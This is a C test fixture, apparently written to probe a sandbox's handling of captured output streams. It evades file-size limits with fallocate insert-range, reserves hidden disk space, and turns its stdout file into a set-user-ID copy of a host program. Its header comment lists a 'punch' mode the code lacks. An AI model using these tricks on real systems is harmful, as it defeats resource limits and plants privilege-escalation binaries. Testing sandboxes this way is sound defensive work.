/* Attack fixture: tampers with its own output streams past what a write could do.
 *   stream_tamper falloc MB        fallocate(FALLOC_FL_KEEP_SIZE) MB on stdout past its end; prints "small\n"
 *   stream_tamper punch            writes 8 KB, then fallocate(PUNCH_HOLE) the first 4 KB
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>
#include <sys/stat.h>

int main(int argc, char **argv) {
    if (argc >= 3 && strcmp(argv[1], "falloc") == 0) {
        long long mb = atoll(argv[2]);
        int fd = argc >= 4 ? atoi(argv[3]) : 1;
        int rc = fallocate(fd, FALLOC_FL_KEEP_SIZE, 0, (off_t)mb << 20);
        struct stat st;
        fstat(fd, &st);
        fprintf(fd == 2 ? stdout : stderr, "fallocate rc=%d errno=%d size=%lld blocks_kb=%lld\n", rc, rc ? errno : 0,
                (long long)st.st_size, (long long)st.st_blocks / 2);
        printf("small\n");
        return 0;
    }
    if (argc >= 3 && strcmp(argv[1], "insert") == 0) {
        /* grows the file past RLIMIT_FSIZE: FALLOC_FL_INSERT_RANGE changes i_size without inode_newsize_ok */
        long long gb = atoll(argv[2]);
        static char block[4096];
        memset(block, 'x', sizeof block);
        if (write(1, block, sizeof block) != (ssize_t)sizeof block) return 3;
        int rc = fallocate(1, FALLOC_FL_INSERT_RANGE, 0, (off_t)gb << 30);
        struct stat st;
        fstat(1, &st);
        fprintf(stderr, "insert rc=%d errno=%d size=%lld\n", rc, rc ? errno : 0, (long long)st.st_size);
        return 0;
    }
    if (argc >= 3 && strcmp(argv[1], "suid") == 0) {
        /* copies a program of the host into stdout, then makes the kept stream a set-user-ID executable */
        int in = open(argv[2], O_RDONLY);
        if (in < 0) return 4;
        char buf[65536];
        ssize_t n;
        while ((n = read(in, buf, sizeof buf)) > 0) {
            if (write(1, buf, (size_t)n) != n) return 5;
        }
        int rc = fchmod(1, argc >= 4 ? (mode_t)strtol(argv[3], NULL, 8) : 06755);
        struct stat st;
        fstat(1, &st);
        fprintf(stderr, "fchmod rc=%d errno=%d mode=%o uid=%d\n", rc, rc ? errno : 0, (unsigned)st.st_mode, (int)st.st_uid);
        return 0;
    }
    return 2;
}
